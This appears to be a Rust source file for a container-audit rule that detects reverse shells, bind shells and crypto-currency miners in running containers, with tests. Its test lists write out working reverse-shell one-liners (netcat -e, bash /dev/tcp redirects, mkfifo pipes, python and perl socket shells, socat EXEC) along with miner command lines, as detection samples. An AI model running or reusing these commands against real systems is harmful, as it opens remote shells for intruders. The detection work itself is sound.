//! CTR018 suspicious-process: a container running a reverse shell, a bind shell or a crypto-currency
//! miner has most likely been compromised.
//!
//! Processes come from the engine's `top` (no exec into containers). Command lines are matched token
//! by token, so `nc -l -p 4444 -e /bin/sh` is caught however it was started (`sh -c`, `busybox nc`),
//! while a `-e` that belongs to another program is not.

use dockaudit_snapshot::redact::redact_text;
use dockaudit_snapshot::Fact;

use crate::facts::program_name;
use crate::prelude::*;

/// The rule.
pub const RULE: Rule = Rule {
    meta: RuleMeta {
        id: "CTR018",
        name: "suspicious-process",
        title: "Suspicious process running in the container",
        rationale: "Reverse and bind shells (netcat or socat running a shell, shells wired to /dev/tcp, scripted socket shells) and crypto-currency miners are what attackers start after breaking into a container; they are almost never part of a legitimate workload.",
        remediation: "Treat the container as compromised: capture evidence (`docker inspect`, `docker top`, `docker export`/`docker diff`), stop it (`docker stop NAME`) and find how the process got there; rebuild from a trusted image, rotate credentials it could read, and harden it (--read-only, --cap-drop ALL, --security-opt no-new-privileges, a non-root --user; compose: `read_only: true`, `cap_drop: [ALL]`, `security_opt: [no-new-privileges:true]`, `user:`).",
        category: Category::Containers,
        severity: Severity::Critical,
        cis: &[],
        cis_v1_6: &[],
        references: &[
            "https://docs.docker.com/reference/cli/docker/container/top/",
            "https://attack.mitre.org/techniques/T1059/004/",
            "https://attack.mitre.org/techniques/T1496/",
            "https://cwe.mitre.org/data/definitions/506.html",
        ],
    },
    check,
};

/// Longest command line quoted in a message.
const MAX_COMMAND_CHARS: usize = 120;

/// Program names of crypto-currency miners and of the cryptojacking malware that ships them.
const MINERS: &[&str] = &[
    "xmrig",
    "xmr-stak",
    "minerd",
    "cpuminer",
    "cgminer",
    "bfgminer",
    "ethminer",
    "t-rex",
    "nbminer",
    "lolminer",
    "phoenixminer",
    "kinsing",
    "kdevtmpfsi",
];

/// Netcat and its variants.
const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];

/// Shells.
const SHELLS: &[&str] = &["sh", "bash", "dash", "ash", "zsh", "ksh", "mksh"];

/// One suspicious process.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Suspicious {
    /// `reverse-shell` or `miner`.
    kind: &'static str,
    /// What it is, for the message.
    why: &'static str,
}

fn check(input: &AuditInput, checks: &mut Checks) {
    checks.each_container(input, |c| match &c.top {
        None => Verdict::NotApplicable,
        Some(Fact::Missing(why)) => Verdict::Skip(format!("processes not collected: {why}")),
        Some(Fact::Value(top)) => judge(top.commands()),
    });
}

/// Judges a container's process command lines.
fn judge<'a>(commands: impl Iterator<Item = &'a str>) -> Verdict {
    let mut found: Vec<(Vec<Suspicious>, String)> = Vec::new();
    for command in commands {
        let reasons = classify(command);
        if reasons.is_empty() {
            continue;
        }
        let shown = facts::shorten(&redact_text(command).0, MAX_COMMAND_CHARS);
        if !found.iter().any(|(_, c)| *c == shown) {
            found.push((reasons, shown));
        }
    }
    if found.is_empty() {
        return Verdict::Pass;
    }
    let whys =
        |reasons: &[Suspicious]| -> Vec<&'static str> { reasons.iter().map(|s| s.why).collect() };
    let listed: Vec<String> = found
        .iter()
        .map(|(reasons, cmd)| format!("`{cmd}` ({})", whys(reasons).join(", ")))
        .collect();
    let evidence: Vec<_> = found
        .iter()
        .map(|(reasons, cmd)| {
            let kinds: Vec<&str> = reasons.iter().map(|s| s.kind).collect();
            json!({"kinds": kinds, "why": whys(reasons), "command": cmd})
        })
        .collect();
    Verdict::fail(format!(
        "suspicious {}: {}",
        if found.len() == 1 {
            "process"
        } else {
            "processes"
        },
        listed.join("; ")
    ))
    .with_evidence(json!({ "processes": evidence }))
}

/// The command line cut into shell pipeline segments, each a list of tokens.
fn segments(command: &str) -> Vec<Vec<&str>> {
    command
        .split([';', '|', '&', '\n'])
        .map(|s| s.split_whitespace().collect::<Vec<_>>())
        .filter(|s| !s.is_empty())
        .collect()
}

/// Whether a program name is `name` or a versioned/suffixed form of it (`xmrig-6.21`, `xmrig.exe`).
fn named(program: &str, name: &str) -> bool {
    let program = program.to_ascii_lowercase();
    program == name
        || program
            .strip_prefix(name)
            .is_some_and(|rest| rest.starts_with(['-', '.']))
}

/// Whether a netcat argument makes it run a program for the peer.
fn is_netcat_exec_flag(arg: &str) -> bool {
    let arg = arg.trim_matches(|c| c == '"' || c == '\'');
    if matches!(arg, "-e" | "-c") || arg.starts_with("-e/") {
        return true;
    }
    if ["--exec", "--sh-exec", "--lua-exec"]
        .iter()
        .any(|f| arg == *f || arg.starts_with(&format!("{f}=")))
    {
        return true;
    }
    // A cluster of short flags ending in `e`: `-lvpe /bin/sh`.
    arg.strip_prefix('-').is_some_and(|flags| {
        !flags.starts_with('-')
            && flags.len() > 1
            && flags.ends_with('e')
            && flags.chars().all(|c| c.is_ascii_alphabetic())
    })
}

/// Whether a shell flag makes it interactive: `-i`, or a cluster such as `-li` that runs no `-c`
/// command (`bash -ic CMD` only loads the rc files for one command).
fn is_interactive_flag(arg: &str) -> bool {
    arg.strip_prefix('-').is_some_and(|flags| {
        !flags.starts_with('-')
            && flags.contains('i')
            && !flags.contains('c')
            && flags.chars().all(|c| c.is_ascii_alphabetic())
    })
}

/// Whether a `/dev/tcp/HOST/…` target is the container itself (a health-check idiom).
fn dev_tcp_is_loopback(command: &str) -> bool {
    let mut targets = command
        .match_indices("/dev/tcp/")
        .chain(command.match_indices("/dev/udp/"))
        .map(|(i, m)| command[i + m.len()..].split('/').next().unwrap_or_default())
        .peekable();
    targets.peek().is_some()
        && targets.all(|host| {
            host == "localhost" || host.starts_with("127.") || host == "::1" || host == "0.0.0.0"
        })
}

/// Everything suspicious about one command line (a launcher `sh -c "… & …"` can hold several).
fn classify(command: &str) -> Vec<Suspicious> {
    const MINER: Suspicious = Suspicious {
        kind: "miner",
        why: "crypto-currency miner",
    };
    let mut found: Vec<Suspicious> = Vec::new();
    let mut add = |s: Suspicious| {
        if !found.contains(&s) {
            found.push(s);
        }
    };
    let lower = command.to_ascii_lowercase();
    let segments = segments(command);
    let miner_pool = [
        "stratum+tcp://",
        "stratum+ssl://",
        "stratum+tls://",
        "stratum2+tcp://",
    ]
    .iter()
    .any(|p| lower.contains(p));
    let miner_program = segments.iter().any(|tokens| {
        tokens
            .iter()
            .any(|t| MINERS.iter().any(|m| named(program_name(t), m)) || *t == "--donate-level")
    });
    if miner_pool || miner_program {
        add(MINER);
    }
    for tokens in &segments {
        for (i, t) in tokens.iter().enumerate() {
            let program = program_name(t);
            let rest = &tokens[i + 1..];
            if NETCATS.contains(&program) && rest.iter().any(|a| is_netcat_exec_flag(a)) {
                add(Suspicious {
                    kind: "reverse-shell",
                    why: "netcat running a program for whoever connects",
                });
            }
            if program == "socat"
                && rest.iter().any(|a| {
                    let a = a.to_ascii_lowercase();
                    a.contains("exec:") || a.contains("system:")
                })
            {
                add(Suspicious {
                    kind: "reverse-shell",
                    why: "socat running a program over a socket",
                });
            }
        }
    }
    let interactive_shell = segments.iter().any(|tokens| {
        tokens.iter().enumerate().any(|(i, t)| {
            SHELLS.contains(&program_name(t))
                && tokens[i + 1..]
                    .iter()
                    .take_while(|a| a.starts_with('-'))
                    .any(|a| is_interactive_flag(a))
        })
    });
    if (lower.contains("/dev/tcp/") || lower.contains("/dev/udp/"))
        && !dev_tcp_is_loopback(command)
        && (interactive_shell
            || command.contains(">&")
            || command.contains("<&")
            || command.contains("<>"))
    {
        add(Suspicious {
            kind: "reverse-shell",
            why: "shell wired to a network socket",
        });
    } else if interactive_shell {
        add(Suspicious {
            kind: "reverse-shell",
            why: "interactive shell without a terminal, as reverse shells run",
        });
    }
    if lower.contains("mkfifo")
        && segments
            .iter()
            .any(|tokens| tokens.iter().any(|t| NETCATS.contains(&program_name(t))))
    {
        add(Suspicious {
            kind: "reverse-shell",
            why: "netcat piped through a fifo into a shell",
        });
    }
    let program = segments
        .first()
        .and_then(|tokens| tokens.first())
        .map(|t| program_name(t).to_ascii_lowercase())
        .unwrap_or_default();
    let scripted = (program.starts_with("python")
        && lower.contains("socket")
        && (lower.contains("pty") || lower.contains("dup2") || lower.contains("subprocess")))
        || (program == "perl"
            && lower.contains("socket")
            && (lower.contains("exec") || lower.contains("/bin/sh")))
        || (program.starts_with("php")
            && lower.contains("fsockopen")
            && (lower.contains("exec")
                || lower.contains("/bin/sh")
                || lower.contains("proc_open")))
        || (program == "ruby"
            && lower.contains("tcpsocket")
            && (lower.contains("exec") || lower.contains("spawn") || lower.contains("/bin/sh")));
    if scripted {
        add(Suspicious {
            kind: "reverse-shell",
            why: "scripted socket shell",
        });
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kind(cmd: &str) -> Option<&'static str> {
        classify(cmd).first().map(|s| s.kind)
    }

    #[test]
    fn reverse_and_bind_shells_are_caught() {
        for cmd in [
            "nc -l -p 4444 -e /bin/sh",
            "/usr/bin/ncat 10.0.0.1 4444 --sh-exec /bin/bash",
            "busybox nc 10.0.0.1 4444 -e /bin/sh",
            "netcat -lvpe /bin/sh 4444",
            "sh -c nc -c sh 10.0.0.1 4444",
            "socat TCP:10.0.0.1:4444 EXEC:/bin/sh,pty,stderr",
            "socat tcp-listen:4444 SYSTEM:bash",
            "bash -i",
            "/bin/bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "sh -i",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh 2>&1|nc 10.0.0.1 4444 >/tmp/f",
            "python3 -c import socket,subprocess,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));pty.spawn(\"sh\")",
            "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");",
        ] {
            assert_eq!(kind(cmd), Some("reverse-shell"), "{cmd}");
        }
    }

    #[test]
    fn miners_are_caught() {
        for cmd in [
            "xmrig",
            "/tmp/.x/xmrig-6.21.0 -o pool.example.com:3333",
            "./minerd -a cryptonight -o stratum+tcp://pool.example.com:3333",
            "cpuminer --url x",
            "/usr/bin/sleep stratum+ssl://pool:443",
            "kdevtmpfsi",
            "./x --donate-level 1",
        ] {
            assert_eq!(kind(cmd), Some("miner"), "{cmd}");
        }
    }

    #[test]
    fn ordinary_processes_pass() {
        for cmd in [
            "nginx: master process nginx -g daemon off;",
            "nc -l -p 8080",
            "nc -z db 5432",
            "sleep 3600",
            "grep -e pattern file",
            "bash -c </dev/tcp/localhost/8080",
            "bash -c exec 3<>/dev/tcp/127.0.0.1/5432",
            "/bin/sh -c /entrypoint.sh",
            "python app.py --port 8080",
            "python -c import socket; print(socket.gethostname())",
            "/usr/sbin/sshd -D",
            "ncdu /data",
            "xmrig_exporter_docs",
            "bash --init-file x",
        ] {
            assert_eq!(kind(cmd), None, "{cmd}");
        }
    }

    #[test]
    fn a_launcher_line_lists_every_reason() {
        let whys: Vec<&str> =
            classify("sh -c nc -l -p 4444 -e /bin/sh & /tmp/xmrig --donate-level 1 & wait")
                .iter()
                .map(|s| s.why)
                .collect();
        assert_eq!(
            whys,
            [
                "crypto-currency miner",
                "netcat running a program for whoever connects"
            ]
        );
    }

    #[test]
    fn message_lists_commands_shortened_and_masked() {
        let long = format!("nc -e /bin/sh 10.0.0.1 4444 {}", "x".repeat(200));
        let cmds = [
            "sleep 1",
            long.as_str(),
            "xmrig --pass=hunter2hunter2hunter2",
        ];
        let Verdict::Fail {
            message, evidence, ..
        } = judge(cmds.into_iter())
        else {
            panic!("expected a failure");
        };
        assert!(
            message.starts_with("suspicious processes: `nc -e /bin/sh"),
            "{message}"
        );
        assert!(message.contains("(crypto-currency miner)"), "{message}");
        assert!(!message.contains("hunter2hunter2"), "{message}");
        assert_eq!(evidence["processes"].as_array().map(Vec::len), Some(2));
        let shown = evidence["processes"][0]["command"].as_str().unwrap_or("");
        assert_eq!(shown.chars().count(), MAX_COMMAND_CHARS);
    }
}
